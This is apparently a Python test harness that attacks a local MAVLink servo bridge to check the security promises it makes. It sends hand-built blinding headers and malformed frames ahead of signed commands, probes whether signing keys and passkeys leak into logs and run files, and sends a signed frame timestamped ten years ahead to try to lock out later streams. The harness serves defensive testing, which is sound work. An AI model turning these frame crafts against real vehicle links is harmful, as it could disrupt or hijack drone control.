"""Promises 2-5 against `mavservo run` subprocesses on 127.0.0.1.

2 UDP: keyless `FD FF 00 00 00 01 01 4C 00 00` from another address before each GCS command
  (50 commands): every command ACKed and applied. TCP (tcpin): bad frame then good frame in one
  write, 50 times.
3 SETUP_SIGNING (signed, from the GCS) -> key bytes in mavlink.tlog? run dir/file modes.
4 One correctly keyed frame 10 years ahead, then a new signed stream (other sys/comp, link id 3).
5 A second bridge on the same udpin port: exit status and message.

Usage: python attack/a2_5_link.py [2udp|2tcp|3|4|5]...
"""

from __future__ import annotations

import os
import socket
import stat
import subprocess
import sys
import time

from harness import KEY, BridgeProc, collect, encoder, free_port, pack, peer

BLINDING = bytes.fromhex("FD FF 00 00 00 01 01 4C 00 00")
DO_SET_SERVO = 183


def p2_udp() -> None:
    bridge = BridgeProc("cfg_signed.yaml", duration=12)
    bridge.wait_ready()
    gcs = peer(bridge.port, key=KEY)
    gcs.mav.heartbeat_send(6, 8, 0, 0, 4)
    evil = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    evil.bind(("127.0.0.9", 0))
    acked = 0
    for i in range(50):
        evil.sendto(BLINDING, ("127.0.0.1", bridge.port))
        gcs.mav.command_long_send(1, 140, DO_SET_SERVO, 0, 9 + i % 2, 1100 + 16 * i, 0, 0, 0, 0, 0)
        acked += len([m for m in collect(gcs, 0.1, "COMMAND_ACK") if m.result == 0])
    rc = bridge.finish()
    print(f"2/UDP: 50 commands each after a blinding header: ACCEPTED acks={acked} exit={rc}")
    print("   ", bridge.mavlink_stats()["commands"], bridge.mavlink_stats()["link"])


def p2_tcp() -> None:
    port = free_port()
    bridge = BridgeProc("cfg_open.yaml", duration=10, url=f"tcpin:127.0.0.1:{port}")
    time.sleep(3.0)
    s = None
    for _ in range(50):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=1)
            break
        except OSError:
            time.sleep(0.1)
    assert s is not None
    enc = encoder()
    bad_variants = {
        "blinding": BLINDING,
        "bad_crc_cmd": None,
        "unknown_id": bytes.fromhex("FD 03 00 00 00 42 42 DE BC 0A 01 02 03 00 00"),
        "truncated_v1": bytes.fromhex("FE 21 00 42 42 4C"),
    }
    sent = 0
    for i in range(40):
        good = pack(
            enc,
            enc.command_long_encode(
                1, 140, DO_SET_SERVO, 0, 9 + i % 2, 1100 + 16 * i, 0, 0, 0, 0, 0
            ),
        )
        name = list(bad_variants)[i % 4]
        bad = bad_variants[name]
        if bad is None:
            bad = bytearray(good)
            bad[-1] ^= 0xFF
            bad = bytes(bad)
        s.sendall(bad + good)
        sent += 1
        time.sleep(0.05)
    # read ACKs from the stream
    from pymavlink.dialects.v20 import ardupilotmega as m2

    dec = m2.MAVLink(None)
    dec.robust_parsing = True
    s.settimeout(0.2)
    acks = 0
    deadline = time.monotonic() + 2
    data = b""
    for _ in range(1000):
        if time.monotonic() > deadline:
            break
        try:
            data += s.recv(65536)
        except TimeoutError:
            continue
        except OSError:
            break
    for msg in dec.parse_buffer(data) or []:
        if msg.get_type() == "COMMAND_ACK" and msg.command == DO_SET_SERVO:
            acks += 1
    s.close()
    rc = bridge.finish()
    print(f"2/TCP: {sent} (bad+good) writes; good commands ACKed={acks}; exit={rc}")
    st = bridge.mavlink_stats()
    print("   ", st["commands"], st["link"])


def p3() -> None:
    bridge = BridgeProc("cfg_signed.yaml", duration=6)
    bridge.wait_ready()
    gcs = peer(bridge.port, key=KEY)
    gcs.mav.heartbeat_send(6, 8, 0, 0, 4)
    new_key = bytes(range(100, 132))
    gcs.mav.setup_signing_send(1, 140, new_key, 12345)
    gcs.mav.setup_signing_send(0, 0, new_key, 12345)
    # MAVLink 2 payload truncation: a key ending in zeros
    key_z = bytes(range(200, 216)) + bytes(16)
    gcs.mav.setup_signing_send(1, 140, key_z, 0)
    # CHANGE_OPERATOR_CONTROL, signed
    gcs.mav.change_operator_control_send(1, 0, 0, b"operator-passkey-secret")
    gcs.mav.auth_key_send(b"authkey-secret-0123456789abcdef")
    time.sleep(0.5)
    rc = bridge.finish()
    run = bridge.run_dir()
    tlog = (run / "mavlink.tlog").read_bytes()
    print(
        f"3: exit={rc} key in tlog={new_key in tlog} key[:8] in tlog={new_key[:8] in tlog} "
        f"zero-padded key prefix in tlog={key_z[:16] in tlog} "
        f"passkey={b'operator-passkey' in tlog} authkey={b'authkey-secret' in tlog} "
        f"bridge key in tlog={KEY in tlog}"
    )
    print(
        f"   run dir mode {oct(stat.S_IMODE(run.stat().st_mode))}; files:",
        {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in run.iterdir()},
    )
    for p in run.iterdir():
        if (
            new_key in p.read_bytes()
            or KEY in p.read_bytes()
            or new_key.hex() in p.read_text(errors="ignore")
        ):
            print("   KEY FOUND IN", p.name)
    print(
        "   stdout/err contains key hex:",
        new_key.hex() in bridge.out + bridge.err,
        KEY.hex() in bridge.out + bridge.err,
    )
    print("   run.json mentions key:", KEY.hex() in (run / "run.json").read_text())


def p4() -> None:
    bridge = BridgeProc("cfg_signed.yaml", duration=8)
    bridge.wait_ready()
    ten_years = 10 * 365 * 86400
    ts_future = int((time.time() + ten_years - 1420070400) * 100_000)
    enc = encoder((255, 190), key=KEY, link_id=0, timestamp=ts_future)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.5", 0))
    s.sendto(pack(enc, enc.heartbeat_encode(6, 8, 0, 0, 4)), ("127.0.0.1", bridge.port))
    time.sleep(0.3)
    results = {}
    for name, src, link in (
        ("same sys other link", (255, 190), 3),
        ("new sys", (250, 190), 0),
        ("new comp", (255, 191), 7),
    ):
        g = peer(bridge.port, source=src, key=KEY, link_id=link)
        g.mav.heartbeat_send(6, 8, 0, 0, 4)
        g.mav.command_long_send(1, 140, DO_SET_SERVO, 0, 9, 1900, 0, 0, 0, 0, 0)
        results[name] = [(m.result) for m in collect(g, 0.6, "COMMAND_ACK")]
    back = 0
    s.settimeout(0.2)
    for _ in range(10):
        try:
            s.recv(4096)
            back += 1
        except TimeoutError:
            break
    rc = bridge.finish()
    print(
        f"4: acks for new signed streams after a 10-years-ahead frame: {results}; "
        f"datagrams to the future sender={back}; exit={rc}"
    )
    print("   ", bridge.mavlink_stats()["link"])
    print("   ", [ln for ln in bridge.log_lines() if "ahead" in ln])


def p5() -> None:
    first = BridgeProc("cfg_open.yaml", duration=8)
    first.wait_ready()
    args = [
        sys.executable.replace("python", "mavservo"),
        "run",
        "--config",
        os.path.join(os.path.dirname(__file__), "cfg_open.yaml"),
        "--mavlink",
        first.url,
        "--duration",
        "3",
        "--no-log",
        "-q",
    ]
    t0 = time.monotonic()
    r = subprocess.run(args, capture_output=True, text=True, timeout=30)
    dt = time.monotonic() - t0
    print(f"5: second bridge on {first.url}: exit={r.returncode} in {dt:.1f}s; stderr/out:")
    print("   ", (r.stdout + r.stderr).strip().replace("\n", "\n    "))
    # also 0.0.0.0 on the same port while the first holds 127.0.0.1
    args[5] = first.url.replace("127.0.0.1", "0.0.0.0")
    r = subprocess.run(args, capture_output=True, text=True, timeout=30)
    print(
        f"5b: bridge on {args[5]} while first holds {first.url}: exit={r.returncode}:",
        (r.stdout + r.stderr).strip().splitlines()[:3],
    )
    first.finish()


if __name__ == "__main__":
    todo = {"2udp": p2_udp, "2tcp": p2_tcp, "3": p3, "4": p4, "5": p5}
    for name in sys.argv[1:] or list(todo):
        todo[name]()
